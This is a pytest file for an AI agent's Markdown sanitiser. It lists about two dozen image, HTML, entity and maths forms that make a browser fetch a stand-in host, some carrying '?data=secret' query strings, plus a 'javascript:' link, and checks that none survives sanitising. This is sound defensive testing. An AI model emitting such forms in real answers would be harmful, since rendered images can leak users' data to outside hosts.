"""agent.markup: answers keep their structure but no Markdown or HTML in them can load anything.

``HOSTILE_FORMS`` is every way we know for answer text to make a browser fetch an address;
``tests/test_browser.py`` puts them all in a document and an answer and counts what a real
Chromium requests.
"""

from __future__ import annotations

import random
import time

import pytest
from markdown_it import MarkdownIt

from agent.markup import drafts, escape, safe_markdown

R = "http://remote.test"
HOSTILE_FORMS = {
    "inline image": "Inline: ![inline alt]({remote}/inline.png?data=secret)",
    "reference image": "Reference: ![reference alt][pic]\n\n[pic]: {remote}/reference.png",
    "titled image in angle brackets": 'Titled: ![titled alt]( <{remote}/titled.png> "a title")',
    "autolink": "Autolink: <{remote}/autolink.png>",
    "image inside a link": "Linked: [![linked alt]({remote}/linked.png)]({remote}/page)",
    "image in a heading": "## Heading ![heading alt]({remote}/heading.png)",
    "image in a table": "| a | b |\n|---|---|\n| ![cell alt]({remote}/cell.png) | x |",
    "img tag": '<img src="{remote}/raw-img.png" alt="raw">',
    "img tag inline": 'Inline <img src="{remote}/inline-img.png"> tag.',
    "img srcset": '<img srcset="{remote}/srcset.png 1x">',
    "picture": '<picture><source srcset="{remote}/picture-source.png"><img src="{remote}/picture-img.png"></picture>',
    "svg image": '<svg><image href="{remote}/svg-image.png"/></svg>',
    "iframe": '<iframe src="{remote}/iframe.html"></iframe>',
    "link tag": '<link rel="stylesheet" href="{remote}/style.css">',
    "video poster": '<video poster="{remote}/poster.png" src="{remote}/video.mp4"></video>',
    "audio": '<audio src="{remote}/audio.mp3" autoplay></audio>',
    "css url": "<div style=\"background-image: url('{remote}/css.png')\">styled</div>",
    "object and embed": '<object data="{remote}/object.png"></object> <embed src="{remote}/embed.png">',
    "input image": '<input type="image" src="{remote}/input.png">',
    "table background": '<table background="{remote}/table.png"><tr><td>cell</td></tr></table>',
    "named entities": '&lt;img src="{remote}/entity.png"&gt;',
    "numeric entities": '&#60;img src="{remote}/numeric-entity.png"&#62;',
    "tag split over lines": '<img\nsrc="{remote}/split.png">',
    "maths": r"$\includegraphics{{{remote}/katex.png}}$ and $$\href{{{remote}}}{{x}}$$",
    "streamlit directives": ":red[coloured] :material/warning: :smile:",
}
READABLE = "The festival is held on the longest night [1].\n\n- **Lanterns** are lit at *dusk* with `tapers`.\n"
CODE = '```python\nprint("code survives")\n```\n'
ORACLE = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
# Pieces of Markdown and HTML syntax; random strings of them are the soup the invariants are checked on.
ATOMS = [
    *"![ [ ] ( ) < > ` ``` - 1. # | --- &lt; &#60; <img $ : = & ^ ! \\ \" ' a".split(),
    *["img src=", "b c", "http://h/x.png", "<http://h/a>", "[x](https://h/y)", "![a][r]", "[r]: http://h/r.png\n"],
    *[" ", "    ", "\t", "\n", "\n\n", "\n  ", "\n- ", "\n* ", "\n+ ", "\n1. ", "\n2) ", "\n> ", "\n===\n"],
    *["\n```py\n", "\n| a | b |\n|---|:-:|\n| c "],
]
EMPHASIS = ["*", "**", "_", "~~"]


def soup(seed: int, count: int, atoms: list[str]) -> list[str]:
    rnd = random.Random(seed)
    return ["".join(rnd.choice(atoms) for _ in range(rnd.randint(1, 30))) for _ in range(count)]


def hostile_markdown(remote: str) -> str:
    """A readable answer followed by every hostile form, each in its own paragraph, pointing at ``remote``."""
    return READABLE + "\n" + "\n\n".join(form.format(remote=remote) for form in HOSTILE_FORMS.values()) + "\n\n" + CODE


def active(markdown: str) -> list[str]:
    """Return the images and raw HTML a CommonMark renderer would make of ``markdown``."""
    found = []
    for token in ORACLE.parse(markdown):
        for inner in [token, *(token.children or [])]:
            if inner.type in ("image", "html_inline", "html_block"):
                found.append(f"{inner.type}: {inner.content}")
    return found


def test_the_hostile_forms_are_active_before_sanitising() -> None:
    live = [name for name, form in HOSTILE_FORMS.items() if active(form.format(remote=R))]
    assert len(live) == 20  # the entities, autolink, maths and directives are dangerous only in other renderers


@pytest.mark.parametrize("name", HOSTILE_FORMS)
def test_no_hostile_form_survives_as_an_image_or_html(name: str) -> None:
    assert active(safe_markdown(HOSTILE_FORMS[name].format(remote=R))) == []


def test_no_prefix_of_a_streamed_form_renders_an_image_or_html() -> None:
    texts = [READABLE + form.format(remote=R) for form in HOSTILE_FORMS.values()]
    prefixes = [text[:n] for text in texts for n in range(len(READABLE), len(text))]
    assert [prefix for prefix in prefixes if active(safe_markdown(prefix))] == []


def test_an_inline_image_becomes_its_alt_text_and_address() -> None:
    assert safe_markdown(f"See ![the map]({R}/map.png?data=secret).") == (
        "See the map \\(image\\: http\\://remote\\.test/map\\.png?data\\=secret\\)\\."
    )


def test_a_reference_image_becomes_text_and_its_definition_goes() -> None:
    form = HOSTILE_FORMS["reference image"].format(remote=R)
    assert safe_markdown(form) == "Reference\\: reference alt \\(image\\: http\\://remote\\.test/reference\\.png\\)"


def test_an_image_without_alt_text_shows_its_address() -> None:
    assert safe_markdown(f"![]({R}/x.png)") == "\\(image\\: http\\://remote\\.test/x\\.png\\)"


def test_html_is_shown_as_its_characters() -> None:
    form = HOSTILE_FORMS["css url"].format(remote=R)
    assert safe_markdown(form) == (
        "\\<div style\\=\"background\\-image\\: url\\('http\\://remote\\.test/css\\.png'\\)\"\\>styled\\</div\\>"
    )


def test_entities_spelling_a_tag_are_shown_as_the_tag_text() -> None:
    assert safe_markdown("&#60;img src=x&#62; &amp;lt;") == "\\<img src\\=x\\> \\&lt;"


def test_a_tag_split_over_lines_stays_text() -> None:
    assert safe_markdown(f'<img\nsrc="{R}/s.png">') == '\\<img\nsrc\\="http\\://remote\\.test/s\\.png"\\>'


def test_half_received_image_syntax_is_text() -> None:
    assert safe_markdown("Look: ![x](http://") == "Look\\: \\!\\[x\\]\\(http\\://"


def test_maths_and_streamlit_directives_are_text() -> None:
    assert safe_markdown("$x$ :red[a] :smile:") == "\\$x\\$ \\:red\\[a\\] \\:smile\\:"


def test_web_links_stay_plain_links() -> None:
    assert safe_markdown("[docs](<https://example.com/a b>) and <https://example.com>") == (
        "[docs](<https://example.com/a%20b>) and [https\\://example\\.com](<https://example.com>)"
    )


def test_other_links_become_text() -> None:
    assert safe_markdown("[x](javascript:alert(1)) [y](notes.html) [z](ftp://h/f)") == (
        "\\[x\\]\\(javascript\\:alert\\(1\\)\\) y \\(notes\\.html\\) z \\(ftp\\://h/f\\)"
    )


def test_lists_emphasis_and_code_still_render() -> None:
    text = "Intro [1].\n\n- **Bold** and *italic*\n- `code`\n  1. nested\n\n```python\nprint('x')\n```"
    assert safe_markdown(text) == (
        "Intro \\[1\\]\\.\n\n- **Bold** and *italic*\n- `code`\n  1. nested\n\n```python\nprint('x')\n```"
    )


def test_rendered_structure_is_what_the_answer_had() -> None:
    html = ORACLE.render(safe_markdown(READABLE + CODE + "\n> quoted ~~old~~\n\n| a |\n|---|\n| b |\n\n# Title\n"))
    assert html == (
        "<p>The festival is held on the longest night [1].</p>\n<ul>\n<li><strong>Lanterns</strong> are lit at "
        "<em>dusk</em> with <code>tapers</code>.</li>\n</ul>\n"
        '<pre><code class="language-python">print(&quot;code survives&quot;)\n</code></pre>\n'
        "<blockquote>\n<p>quoted <s>old</s></p>\n</blockquote>\n"
        "<table>\n<thead>\n<tr>\n<th>a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>b</td>\n</tr>\n</tbody>\n</table>\n"
        "<h1>Title</h1>\n"
    )


def test_code_holding_backticks_and_image_syntax_stays_code() -> None:
    assert safe_markdown("`` a`![x](u)` ``") == "`` a`![x](u)` ``"
    assert safe_markdown("````\n```\n![x](u)\n````") == "````\n```\n![x](u)\n````"


def test_escape_shows_every_character_literally() -> None:
    text = "# *a* _b_ `c` [d](e) ![f](g) <h> &i; |j| ~k~ $l$ :m: 1. + - = \\"
    assert ORACLE.render(escape(text)) == (
        "<p># *a* _b_ `c` [d](e) ![f](g) &lt;h&gt; &amp;i; |j| ~k~ $l$ :m: 1. + - = \\</p>\n"
    )


def test_random_markup_never_comes_out_active() -> None:
    assert [text for text in soup(1, 800, ATOMS + EMPHASIS) if active(safe_markdown(text))] == []


def test_output_reads_back_as_itself() -> None:  # what we write is parsed back to the structure we meant
    assert [text for text in soup(2, 800, ATOMS) if safe_markdown(safe_markdown(text)) != safe_markdown(text)] == []


def test_drafts_start_at_the_first_piece_and_end_with_the_whole_text() -> None:
    drawn = list(drafts(["a", "b", "c"], every=3600))
    assert drawn == ["a", "abc"] and list(drafts([])) == []


def test_slow_drawing_makes_drafts_rarer() -> None:
    drawn = []
    for draft in drafts(["x"] * 50, every=0):
        drawn.append(len(draft))
        time.sleep(0.05)  # drawing this draft took 50 ms: the next one waits 150 ms, the rest arrive before that
    assert drawn == [1, 50]
